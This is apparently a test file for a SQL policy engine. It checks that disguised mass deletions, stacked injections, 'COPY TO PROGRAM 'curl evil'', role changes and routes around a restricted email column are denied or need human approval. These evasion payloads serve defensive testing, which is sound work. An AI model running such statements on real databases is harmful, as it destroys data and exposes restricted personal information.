import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createPostgresqlDialect } from '../../../src/adapters/dialects/postgresql/dialect.ts';
import { decide } from '../../../src/core/policy/decide.ts';
import { type Decision, effects } from '../../../src/core/policy/decision.ts';
import type { Policy } from '../../../src/core/policy/policy.ts';
import { readPolicy } from '../../../src/core/policy/readPolicy.ts';
import type { ConnectionProfile } from '../../../src/core/ports.ts';
import { demoCatalog } from '../../support/demoCatalog.ts';
import { draftOf, policyOf, profile } from '../../support/statements.ts';

const dialect = await createPostgresqlDialect();
const builtIn = readPolicy([]).policy;
const permissive = policyOf("version: 1\nrules: { no-limit: off }\napproval:\n  - { when: 'true', effect: permit }\n");

function decided(sql: string, policy: Policy = builtIn, over: Partial<ConnectionProfile> = {}): Decision {
  return decide(dialect.analyse(sql, demoCatalog), draftOf(sql), {
    policy,
    profile: profile(over),
    catalog: demoCatalog,
  });
}

describe('a change of every row in disguise', () => {
  it.each([
    'WITH d AS (DELETE FROM customers RETURNING customer_id) SELECT count(*) FROM d',
    'WITH d AS (DELETE FROM customers) INSERT INTO product_lines VALUES (1)',
    'WITH d AS (DELETE FROM customers WHERE customer_id = 1), u AS (UPDATE orders SET status = NULL) SELECT 1',
    'EXPLAIN ANALYZE DELETE FROM customers',
    'EXPLAIN (ANALYZE, FORMAT json) UPDATE customers SET email = NULL',
    'PREPARE later AS DELETE FROM customers',
    'DELETE FROM customers WHERE 1 = 1',
    'DELETE FROM customers WHERE true OR false',
    'DELETE FROM customers WHERE EXISTS (SELECT 1 FROM orders)',
    'dElEtE /* WHERE customer_id = 1 */ FROM customers -- WHERE customer_id = 1',
    'DELETE FROM ONLY customers',
    'TRUNCATE customers',
    'SELECT 1; DELETE FROM customers',
  ])('%s is denied, even under a policy that permits everything', (sql) => {
    expect(decided(sql, permissive).effect).toBe('deny');
  });
});

describe('a read that is none', () => {
  it.each([
    "SELECT set_config('role', 'postgres', false)",
    'SELECT no_such_function()',
    'SELECT * FROM no_such_table',
    'SELECT customer_id INTO copy FROM customers',
    'SELECT 1 FROM customers FOR UPDATE',
    "COPY customers TO PROGRAM 'curl evil'",
    'CALL anything()',
    "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$",
    'SELEC 1',
    "SELECT 'unfinished",
    'SELECT 1 \0; DROP TABLE customers',
  ])('%j does not run on a read-only connection, nor without a person elsewhere', (sql) => {
    expect(effects.indexOf(decided(sql).effect)).toBeGreaterThanOrEqual(effects.indexOf('requireApproval'));
    const onReadOnly = decided(sql, permissive, { readOnly: true });
    expect(onReadOnly.effect === 'deny' || onReadOnly.obligations.readOnly).toBe(true);
    expect(effects.indexOf(onReadOnly.effect)).toBeGreaterThanOrEqual(effects.indexOf('requireApproval'));
  });
});

describe('a way around a restricted column', () => {
  it.each([
    'SELECT email FROM customers WHERE customer_id = 1',
    'SELECT x FROM (SELECT email AS x FROM customers) AS y WHERE x IS NOT NULL',
    'WITH c (a) AS (SELECT email FROM customers) SELECT a FROM c LIMIT 1',
    'SELECT to_json(c) FROM customers c LIMIT 1',
    'SELECT c FROM customers c LIMIT 1',
    'SELECT c.* FROM customers c LIMIT 1',
    'TABLE customers',
    "SELECT count(*) FROM customers WHERE email LIKE 'a%'",
    'SELECT region FROM customers ORDER BY email LIMIT 1',
    'SELECT count(*) FROM customers GROUP BY email',
    'SELECT 1 FROM customers a JOIN customers b ON a.email = b.email LIMIT 1',
    'SELECT "email" FROM "public"."customers" LIMIT 1',
    'SELECT EMAIL FROM Customers LIMIT 1',
    'SELECT U&"\\0065mail" FROM customers LIMIT 1',
    'SELECT max(email) FROM customers',
    'UPDATE orders SET status = (SELECT email FROM customers LIMIT 1) WHERE order_id = 1',
    'DELETE FROM orders WHERE order_id = 1 RETURNING (SELECT email FROM customers LIMIT 1)',
    'SELECT 1 UNION SELECT length(email) FROM customers',
  ])('%s needs a person', (sql) => {
    const decision = decided(sql, permissive);
    const restricted = policyOf(
      "version: 1\nclassification: [{ columns: ['*.*.email'], level: restricted }]\napproval:\n  - { when: 'true', effect: permit }\n",
    );
    expect(decision.effect).not.toBe('deny');
    expect(decided(sql, restricted).effect).toBe('requireApproval');
    expect(decided(sql, restricted).risk.criteria[0]).toMatchObject({ name: 'sensitivity', value: 'restricted' });
  });
});

describe('a comment that asks to ignore a rule, in real SQL', () => {
  const stars = (sql: string) => decided(sql, permissive).findings.filter((f) => f.rule === 'select-star').length;

  it('counts before a statement', () => {
    expect(stars('-- countersign-ignore select-star: all of it\nSELECT * FROM products')).toBe(0);
    expect(stars('SELECT 1;\n-- countersign-ignore select-star: all of it\nSELECT * FROM products;')).toBe(0);
  });

  it.each([
    "SELECT '\n-- countersign-ignore select-star: x\n'; SELECT * FROM products",
    'SELECT $q$\n-- countersign-ignore select-star: x\n$q$; SELECT * FROM products',
    'SELECT 1 AS "\n-- countersign-ignore select-star: x\n"; SELECT * FROM products',
    '/* \n-- countersign-ignore select-star: x\n */ SELECT * FROM products',
    "SELECT E'\\'\n-- countersign-ignore select-star: x\n'; SELECT * FROM products",
    '-- countersign-ignore select-star: x\nSELECT 1; SELECT * FROM products',
  ])('does not count in %j', (sql) => {
    expect(stars(sql)).toBe(1);
  });
});

describe('any text', () => {
  const words = fc.constantFrom(
    'SELECT',
    'DELETE FROM',
    'UPDATE',
    'customers',
    'email',
    '*',
    ',',
    'WHERE',
    'SET',
    '=',
    '1',
    ';',
    "'",
    '"',
    '$$',
    '--',
    '/*',
    '*/',
    '\n',
    '(',
    ')',
    'WITH x AS',
    'UNION',
    'é😀',
    '\0',
    '\r',
    'LIMIT',
    'countersign-ignore',
  );

  it('is decided without an exception, never permitted when it is not understood, and with findings inside it', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.array(words, { maxLength: 16 }).map((w) => w.join(' ')),
        ),
        (sql) => {
          if (!sql.isWellFormed()) return;
          const analysis = dialect.analyse(sql, demoCatalog);
          const decision = decided(sql, permissive);
          const clear =
            analysis.problems.length === 0 && analysis.statements.every((s) => s.understood && s.effect !== 'unknown');
          if (!clear)
            expect(effects.indexOf(decision.effect)).toBeGreaterThanOrEqual(effects.indexOf('requireApproval'));
          if (decision.effect !== 'permit') expect(decision.reasons.length).toBeGreaterThan(0);
          for (const { span, fixes } of decision.findings) {
            expect(span.start).toBeLessThanOrEqual(span.end);
            expect(span.end).toBeLessThanOrEqual(sql.length);
            for (const edit of fixes.flatMap((fix) => fix.edits)) expect(edit.span.end).toBeLessThanOrEqual(sql.length);
          }
        },
      ),
      { numRuns: 500 },
    );
  });
});
